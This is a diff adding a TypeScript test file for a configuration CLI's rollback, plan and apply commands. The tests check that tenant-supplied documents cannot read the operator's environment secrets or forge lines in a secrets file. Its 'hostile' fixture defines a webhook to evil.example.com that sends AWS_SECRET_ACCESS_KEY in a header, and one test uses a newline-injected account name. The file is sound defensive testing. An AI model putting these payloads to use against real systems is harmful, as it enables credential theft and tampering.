@@ -1,0 +1,124 @@
+import { once } from 'node:events'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { PassThrough } from 'node:stream'
+import { text } from 'node:stream/consumers'
+import { afterEach, beforeEach, expect, it } from 'vitest'
+import { run } from '../../../cli/program.ts'
+import { Profiles, configFolder } from '../../../cli/profile/profile.ts'
+import { anApi } from '../../support/platform/api.ts'
+import { memoryFetch } from '../../support/platform/memory-fetch.ts'
+import { aDomainInMemory } from './domains.ts'
+
+const domain = 'a.example.com'
+const secret = 'OPERATOR-SECRET-4711'
+let home: string
+
+beforeEach(() => {
+  home = mkdtempSync(join(tmpdir(), 'callplane-rollback-'))
+})
+
+afterEach(() => rmSync(home, { recursive: true, force: true }))
+
+/** A domain with an admin, and root's command line with a secret in its environment. */
+async function anOperator() {
+  const api = anApi()
+  const { admin, targetOf } = await aDomainInMemory(api)
+  const { client: tenant } = await targetOf(admin)
+  const { fetch } = memoryFetch(api)
+  const server = createServer(async (request, response) => {
+    const body = await text(request)
+    const init = { method: request.method ?? 'GET', headers: request.headers as Record<string, string> }
+    const answer = await fetch(`http://x${request.url}`, { ...init, ...(body === '' ? {} : { body }) })
+    response.writeHead(answer.status, Object.fromEntries(answer.headers)).end(await answer.text())
+  })
+  await once(server.listen(0, '127.0.0.1'), 'listening')
+  const address = server.address()
+  const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`
+  const env = { AWS_SECRET_ACCESS_KEY: secret, XDG_CONFIG_HOME: home }
+  const { 'x-access-token': token, 'x-key': key } = await api.as('root')
+  const profile = { url, user: 'root', token, key, expires: Number.MAX_SAFE_INTEGER, domain }
+  new Profiles(configFolder({ env, platform: 'linux', home })).write('default', profile)
+  const callplane = async (...words: string[]) => {
+    const written = { stdout: '', stderr: '' }
+    const stream = (name: 'stdout' | 'stderr') => ({
+      write: (chunk: string | Uint8Array) => (written[name] += String(chunk)),
+    })
+    const { signal } = new AbortController()
+    const world = { stdin: new PassThrough(), stdout: stream('stdout'), stderr: stream('stderr'), signal }
+    const exitCode = await run(words, { ...world, env, platform: 'linux', home })
+    return { exitCode, ...written }
+  }
+  return { tenant, callplane, [Symbol.asyncDispose]: async () => void (await once(server.close(), 'close')) }
+}
+
+const hostile = `callplane: 1
+domain: ${domain}
+hooks:
+  - event: CHANNEL_CREATE
+    url: https://evil.example.com/x
+    headers:
+      X-Api-Key: \${env:AWS_SECRET_ACCESS_KEY}
+`
+
+it("a rollback to a version of the tenant's own making reads nothing of the operator's environment", async () => {
+  await using operator = await anOperator()
+  const { tenant, callplane } = operator
+  const params = { domain_name: domain, version: '1' }
+  await tenant.call('keepDomainVersion', { params, body: { document: hostile, comment: 'before a change' } })
+
+  const back = await callplane('rollback', '1', '--yes')
+
+  const { data } = await tenant.call('listHooks')
+  expect(JSON.stringify([data, back])).not.toContain(secret)
+  expect(data).toEqual([])
+  expect(back.exitCode).toBe(1)
+  expect(back.stderr).toContain('version 1 would read AWS_SECRET_ACCESS_KEY from your environment')
+  expect(back.stderr).toContain('callplane export --version 1 --output')
+})
+
+it('plan and apply name the variables that a document reads, and apply reads no other', async () => {
+  await using operator = await anOperator()
+  const { tenant, callplane } = operator
+  const file = join(home, 'acme.yaml')
+  writeFileSync(file, hostile)
+
+  const planned = await callplane('plan', file)
+  const asJson = await callplane('plan', file, '--json')
+  const refused = await callplane('apply', file)
+  const applied = await callplane('apply', file, '--yes')
+
+  const named = 'apply reads from your environment: AWS_SECRET_ACCESS_KEY\n'
+  expect(planned).toMatchObject({ exitCode: 0, stderr: named })
+  expect(JSON.parse(asJson.stdout)).toMatchObject({ reads: ['AWS_SECRET_ACCESS_KEY'] })
+  expect(refused).toMatchObject({ exitCode: 2, stderr: expect.stringMatching(new RegExp(`^${named}`)) })
+  expect(applied).toMatchObject({ exitCode: 0, stderr: named })
+  expect((await tenant.call('listHooks')).data).toMatchObject([{ headers: { 'X-Api-Key': secret } }])
+})
+
+it('a rollback says who stored the version and what a new role of it allows', async () => {
+  await using operator = await anOperator()
+  const { tenant, callplane } = operator
+  const document = `callplane: 1\ndomain: ${domain}\nroles:\n  boss:\n    parent: admin\n    allows: {license: ["*"]}\n`
+  await tenant.call('keepDomainVersion', { params: { domain_name: domain, version: '1' }, body: { document } })
+
+  const back = await callplane('rollback', '1')
+
+  expect(back.exitCode).toBe(2)
+  expect(back.stderr).toContain(`version 1 was stored by 1000@${domain} at `)
+  expect(back.stdout).toContain('+ role boss\n    + allows.license[0]: "*"\n    + parent: "admin"\n')
+})
+
+it('a login of a document cannot add lines to the file of new secrets', async () => {
+  await using operator = await anOperator()
+  const { tenant, callplane } = operator
+  const document = `callplane: 1\ndomain: ${domain}\naccounts:\n  "1000": {role: admin}\n  "a: b\\npassword of root":\n    role: user\n`
+  await tenant.call('keepDomainVersion', { params: { domain_name: domain, version: '1' }, body: { document } })
+  const secrets = join(home, 'secrets.txt')
+
+  await callplane('rollback', '1', '--yes', '--secrets', secrets)
+
+  expect(readFileSync(secrets, 'utf8')).toMatch(/^password of a: b\\npassword of root: [A-Za-z0-9]{22}\n$/)
+})
